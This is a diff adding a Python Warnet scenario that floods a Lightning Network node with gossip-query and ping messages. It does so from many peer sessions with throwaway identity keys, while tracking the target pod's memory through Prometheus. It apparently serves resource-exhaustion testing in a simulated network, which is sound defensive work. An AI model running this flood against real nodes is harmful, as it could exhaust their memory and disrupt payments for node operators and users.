@@ -0,0 +1,252 @@
+#!/usr/bin/env python3
+
+import itertools
+import random
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+from io import BytesIO
+
+import requests
+from commander import Commander
+from ln_framework.p2p import LNP2PSession
+from ln_p2p_message import GENESIS, LND_FEATURES, ns
+from pyln.proto.message import Message
+from pyln.proto.wire import PrivateKey, PublicKey
+
+PROMETHEUS_URL = "http://prometheus-kube-prometheus-prometheus.warnet-logging:9090"
+
+
+def build_message(name, chain_hash):
+    if name == "gossip_timestamp_filter":
+        return Message(ns.get_msgtype(name),
+                       chain_hash=chain_hash,
+                       first_timestamp=0,
+                       timestamp_range=0xFFFFFFFF)
+    if name == "query_channel_range":
+        return Message(ns.get_msgtype(name),
+                       chain_hash=chain_hash,
+                       first_blocknum=0,
+                       number_of_blocks=0xFFFFFFFF)
+    if name == "ping":
+        return Message(ns.get_msgtype(name), num_pong_bytes=0, ignored=b"")
+    raise ValueError(f"Don't know how to build a {name} message")
+
+
+def parse_mix(mix):
+    # "gossip_timestamp_filter=9,query_channel_range=1" -> [(name, weight), ...]
+    parts = []
+    for item in mix.split(","):
+        name, _, weight = item.partition("=")
+        parts.append((name.strip(), int(weight or 1)))
+    return parts
+
+
+class LNP2PFlood(Commander):
+    def set_test_params(self):
+        self.num_nodes = 0
+
+    def add_options(self, parser):
+        parser.description = "Flood a LN node with p2p messages from many peers at once"
+        parser.usage = "warnet run /path/to/ln_p2p_flood.py [options]"
+        parser.add_argument(
+            "--peer",
+            dest="peer",
+            type=str,
+            help="The complete uri pubkey@host:port to connect and send messages to",
+        )
+        parser.add_argument(
+            "--sessions",
+            dest="sessions",
+            default=10,
+            type=int,
+            help="Number of concurrent connections, each with its own identity key (default 10)",
+        )
+        parser.add_argument(
+            "--handshakes",
+            dest="handshakes",
+            default=4,
+            type=int,
+            help="Maximum number of noise handshakes in flight at once (default 4)",
+        )
+        parser.add_argument(
+            "--mix",
+            dest="mix",
+            default="gossip_timestamp_filter=1",
+            type=str,
+            help="Weighted message mix sent by every session, e.g. "
+                 "gossip_timestamp_filter=9,query_channel_range=1",
+        )
+        parser.add_argument(
+            "--rate",
+            dest="rate",
+            default=0,
+            type=float,
+            help="Messages per second per session, 0 for as fast as possible (default 0)",
+        )
+        parser.add_argument(
+            "--duration",
+            dest="duration",
+            default=60,
+            type=int,
+            help="Seconds to keep flooding (default 60)",
+        )
+        parser.add_argument(
+            "--interval",
+            dest="interval",
+            default=5,
+            type=int,
+            help="Seconds between report samples (default 5)",
+        )
+        parser.add_argument(
+            "--prometheus",
+            dest="prometheus",
+            default=PROMETHEUS_URL,
+            type=str,
+            help=f"Prometheus server to read target memory from (default {PROMETHEUS_URL})",
+        )
+
+    def open_session(self, i, node_id, host, port):
+        session = LNP2PSession(ns, PrivateKey(random.randbytes(32)), node_id, host, port, self.log)
+        try:
+            session.connect()
+            session.handshake(Message(ns.get_msgtype("init"),
+                                      globalfeatures=b"\x12\x00",
+                                      features=LND_FEATURES))
+        except Exception as e:
+            self.log.error(f"Session {i} failed to connect: {e}")
+            session.close()
+            return None
+        self.log.info(f"Session {i} connected")
+        return session
+
+    def drive(self, session, templates, stop):
+        interval = 1 / self.options.rate if self.options.rate else 0
+        next_send = time.perf_counter()
+        for data, name in itertools.cycle(templates):
+            if stop.is_set() or session.closed.is_set():
+                return
+            if interval:
+                next_send += interval
+                delay = next_send - time.perf_counter()
+                if delay > 0:
+                    time.sleep(delay)
+            # Blocks while the session has SEND_BACKLOG messages queued
+            session.send_raw(data, name)
+
+    def target_memory(self, pod):
+        try:
+            resp = requests.get(
+                f"{self.options.prometheus}/api/v1/query",
+                params={"query": f'max(container_memory_usage_bytes{{pod="{pod}"}})'},
+                timeout=5,
+            )
+            result = resp.json()["data"]["result"]
+            return int(float(result[0]["value"][1])) if result else None
+        except Exception as e:
+            self.log.debug(f"Could not read memory of {pod} from prometheus: {e}")
+            return None
+
+    def run_test(self):
+        # Clear the Warnet default random seed
+        random.seed(None)
+        chain = self.nodes[0].chain
+        # chain_hash fields are in internal byte order
+        chain_hash = bytes.fromhex(GENESIS[chain])[::-1]
+
+        pk, host = self.options.peer.split("@")
+        host, port = host.split(":")
+        node_id = PublicKey(bytes.fromhex(pk))
+        pod = host.split(".")[0]
+
+        # Encode every message in the mix once, sessions only queue the bytes
+        templates = []
+        for name, weight in parse_mix(self.options.mix):
+            buf = BytesIO()
+            build_message(name, chain_hash).write(buf)
+            templates += [(buf.getvalue(), name)] * weight
+        random.shuffle(templates)
+
+        self.log.info(f"Opening {self.options.sessions} sessions to {self.options.peer} "
+                      f"({self.options.handshakes} handshakes at a time)")
+        with ThreadPoolExecutor(max_workers=self.options.handshakes) as pool:
+            sessions = list(pool.map(
+                lambda i: self.open_session(i, node_id, host, port),
+                range(self.options.sessions)))
+        sessions = [s for s in sessions if s]
+        if not sessions:
+            self.log.error("No sessions connected, giving up")
+            return
+
+        stop = threading.Event()
+        drivers = [
+            threading.Thread(target=self.drive, args=(s, templates, stop)) for s in sessions
+        ]
+        for thread in drivers:
+            thread.start()
+
+        report = []
+        start = time.perf_counter()
+        last_sent = 0
+        last_time = start
+        while time.perf_counter() - start < self.options.duration:
+            time.sleep(self.options.interval)
+            now = time.perf_counter()
+            sent = 0
+            for session in sessions:
+                sent += sum(s["count"] for s in session.stats()["sent"].values())
+            sample = {
+                "t": round(now - start, 1),
+                "alive": sum(1 for s in sessions if not s.closed.is_set()),
+                "sent": sent,
+                "rate": (sent - last_sent) / (now - last_time),
+                "memory": self.target_memory(pod),
+            }
+            report.append(sample)
+            last_sent, last_time = sent, now
+            self.log.info(f"t={sample['t']}s sessions={sample['alive']} sent={sent} "
+                          f"rate={sample['rate']:.0f}/s {pod} memory={sample['memory']}")
+            if not sample["alive"]:
+                self.log.info("All sessions closed by peer")
+                break
+
+        stop.set()
+        # Closing first releases drivers blocked on a full send queue
+        for session in sessions:
+            session.close()
+        for thread in drivers:
+            thread.join()
+
+        headers = ["time (s)", "sessions", "messages sent", "messages/s", f"{pod} memory (MiB)"]
+        rows = [
+            (
+                str(s["t"]),
+                str(s["alive"]),
+                str(s["sent"]),
+                f"{s['rate']:.0f}",
+                f"{s['memory'] / 2**20:.1f}" if s["memory"] is not None else "-",
+            )
+            for s in report
+        ]
+        widths = [
+            max(len(headers[i]), max((len(row[i]) for row in rows), default=0))
+            for i in range(len(headers))
+        ]
+
+        def fmt_row(cols):
+            return " | ".join(cols[i].ljust(widths[i]) for i in range(len(cols)))
+
+        self.log.info(f"Flood report for {self.options.peer}")
+        self.log.info("-" * len(fmt_row(headers)))
+        self.log.info(fmt_row(headers))
+        self.log.info("-" * len(fmt_row(headers)))
+        for row in rows:
+            self.log.info(fmt_row(row))
+
+
+def main():
+    LNP2PFlood("").main()
+
+
+if __name__ == "__main__":
+    main()